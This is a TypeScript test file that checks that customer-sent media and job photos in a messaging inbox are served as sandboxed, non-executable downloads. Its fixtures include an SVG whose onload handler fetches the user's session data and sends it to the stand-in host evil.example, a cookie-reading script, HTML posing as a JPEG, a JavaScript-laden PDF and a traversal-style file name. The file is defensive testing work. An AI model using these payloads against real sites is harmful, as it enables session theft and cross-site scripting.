import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { adminDb } from "@campotech/core/lib/db";
import { env } from "@campotech/core/lib/env";
import { issueAccessToken } from "@campotech/core/modules/auth";
import { getMediaStorage } from "@campotech/core/modules/media";
import { resetDatabase } from "@campotech/database/testing";
import { call } from "../api-test-kit";
import { getJobAttachmentEndpoint } from "../endpoints/jobs";
import { getMessageMediaEndpoint } from "../endpoints/messages";
import { FILE_CSP } from "../file-response";

// A customer decides what bytes they send and what type their phone (or the provider) declares. Opened from the
// inbox, a file is a page of our origin with the staff member's session: it must never run script.
const ORG = "sec-media-org";
const SVG = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('/api/auth/me').then(r=>r.text()).then(t=>fetch('https://evil.example/?'+t))"><script>alert(document.cookie)</script></svg>`);
const HTML = Buffer.from("<!doctype html><html><body><script>alert(1)</script></body></html>");
const JPEG = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46]);
const PDF = Buffer.from("%PDF-1.7\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n");
const OGG = Buffer.concat([Buffer.from("OggS"), Buffer.alloc(24)]);
let bearer: Record<string, string>;

async function stored(id: string, declared: string, bytes: Buffer, content: object = {}) {
  const key = `${ORG}/sec/${id}`;
  await getMediaStorage().put(key, bytes, declared);
  await adminDb().whatsAppMessage.create({
    data: {
      id, organizationId: ORG, conversationId: "sm-conv", waMessageId: `wamid.${id}`, direction: "INBOUND", type: "DOCUMENT", content, status: "RECEIVED",
      mediaStorageKey: key, mediaMimeType: declared, mediaState: "STORED",
    },
  });
}

beforeAll(async () => {
  await resetDatabase(env.DATABASE_ADMIN_URL);
  const admin = adminDb();
  await admin.organization.create({ data: { id: ORG, name: "Media", cuit: "30712345671", tier: "PROFESIONAL" } });
  const user = await admin.user.create({ data: { organizationId: ORG, phone: "+5491140001112", name: "Laura", role: "OWNER" } });
  await admin.customer.create({ data: { id: "sm-cust", organizationId: ORG, phone: "+5491155551112", name: "Cliente" } });
  await admin.whatsAppConversation.create({ data: { id: "sm-conv", organizationId: ORG, customerId: "sm-cust" } });
  await stored("sm-svg", "image/svg+xml", SVG);
  await stored("sm-html-as-jpeg", "image/jpeg", HTML);
  await stored("sm-jpeg", "application/octet-stream", JPEG);
  await stored("sm-pdf", "application/pdf", PDF, { document: { filename: 'presupuesto "baño"/../x.pdf' } });
  await stored("sm-ogg", "audio/ogg; codecs=opus", OGG);
  await admin.job.create({ data: { id: "sm-job", organizationId: ORG, number: 1, customerId: "sm-cust", address: "Calle 1", serviceType: "GAS", description: "x" } });
  await getMediaStorage().put(`${ORG}/jobs/sm-job/sm-photo`, SVG, "image/png");
  await admin.jobAttachment.create({ data: { id: "sm-photo", organizationId: ORG, jobId: "sm-job", kind: "PHOTO", storageKey: `${ORG}/jobs/sm-job/sm-photo`, mimeType: "image/png", size: SVG.length } });
  bearer = { authorization: `Bearer ${issueAccessToken({ id: user.id, organizationId: ORG, role: "OWNER" }).token}` };
});
afterAll(() => resetDatabase(env.DATABASE_ADMIN_URL));

const media = (id: string) => call(getMessageMediaEndpoint, { params: { id }, headers: bearer });

function expectSandboxed(response: Response) {
  expect(response.headers.get("content-security-policy")).toBe(FILE_CSP);
  expect(response.headers.get("content-security-policy")).toContain("sandbox");
  expect(response.headers.get("x-content-type-options")).toBe("nosniff");
}

describe("customer media is never served as a page", () => {
  it.each([
    ["an SVG with script", "sm-svg"],
    ["HTML declared as a JPEG", "sm-html-as-jpeg"],
  ])("%s is a download of opaque bytes, sandboxed", async (_, id) => {
    const response = await media(id);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("application/octet-stream");
    expect(response.headers.get("content-disposition")).toMatch(/^attachment; /);
    expectSandboxed(response);
  });

  it("a real JPEG is shown inline with the type its bytes prove, whatever was declared", async () => {
    const response = await media("sm-jpeg");
    expect(response.headers.get("content-type")).toBe("image/jpeg");
    expect(response.headers.get("content-disposition")).toMatch(/^inline; /);
    expectSandboxed(response);
    expect(Buffer.from(await response.arrayBuffer())).toEqual(JPEG);
  });

  it("a voice note plays inline; a PDF is downloaded under a cleaned-up version of the customer's file name", async () => {
    expect((await media("sm-ogg")).headers.get("content-type")).toBe("audio/ogg");
    const pdf = await media("sm-pdf");
    expect(pdf.headers.get("content-type")).toBe("application/pdf");
    const disposition = pdf.headers.get("content-disposition")!;
    expect(disposition).toMatch(/^attachment; filename="presupuesto _ba_o_\.\._x\.pdf"; filename\*=UTF-8''presupuesto%20_ba%C3%B1o_\.\._x\.pdf$/);
    expectSandboxed(pdf);
  });

  it("a job photo whose bytes are not an image gets the same treatment", async () => {
    const response = await call(getJobAttachmentEndpoint, { params: { id: "sm-job", attachmentId: "sm-photo" }, headers: bearer });
    expect(response.headers.get("content-type")).toBe("application/octet-stream");
    expect(response.headers.get("content-disposition")).toMatch(/^attachment; filename="foto-sm-photo"/);
    expectSandboxed(response);
  });
});
